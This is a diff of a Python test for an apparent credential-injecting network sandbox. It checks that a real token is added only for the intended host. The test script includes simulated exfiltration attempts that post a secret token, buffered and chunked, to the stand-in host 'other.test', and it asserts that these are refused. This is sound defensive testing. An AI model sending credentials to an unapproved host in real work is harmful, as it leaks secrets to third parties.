@@ -255,6 +255,11 @@ post("/gzip", gzip.compress(json.dumps({"key": token}).encode()), {"Content-Enco
 data = ("x" * 50 + token + "y" * 50).encode()
 post("/chunked", lambda: [data[i:i + 7] for i in range(0, len(data), 7)], {})
 post("/elsewhere", json.dumps({"key": token}).encode(), {}, host="other.test")
+post("/harmless", json.dumps({"key": "nothing secret"}).encode(), {}, host="other.test")
+try:
+    post("/elsewhere-chunked", lambda: [data[i:i + 7] for i in range(0, len(data), 7)], {}, host="other.test")
+except (OSError, http.client.HTTPException) as e:
+    print("/elsewhere-chunked cut", type(e).__name__)
 """
 
 
@@ -269,7 +274,13 @@ def test_bodies_json_gzip_and_chunked_get_the_real_value_only_at_the_inject_host
     assert json.loads(by_path["/json"].body) == {"key": REAL_TOKEN}
     assert json.loads(by_path["/gzip"].body) == {"key": REAL_TOKEN}
     assert by_path["/chunked"].body == ("x" * 50 + REAL_TOKEN + "y" * 50).encode()
-    assert REAL_TOKEN.encode() not in by_path["/elsewhere"].body  # the attempt beside the three controls
+    # the attempts (a buffered body, refused before anything is sent; a chunked one, cut before the placeholder)
+    assert "/elsewhere 403" in result.stdout and "/elsewhere" not in by_path, result.explain()
+    assert "/elsewhere-chunked" not in by_path and "/elsewhere-chunked 200" not in result.stdout
+    assert json.loads(by_path["/harmless"].body) == {"key": "nothing secret"}  # the control toward that host
+    refused = [f for f in result.flows if f.get("path", "").startswith("/elsewhere")]
+    assert len(refused) == 2 and {f["reason"] for f in refused} == {"credential_misdirected"}, refused
+    assert all(f["credentials"]["placeholder_left"][0]["where"] == ["body"] for f in refused)
     assert_nowhere(netjail, result, REAL_TOKEN)
 
 
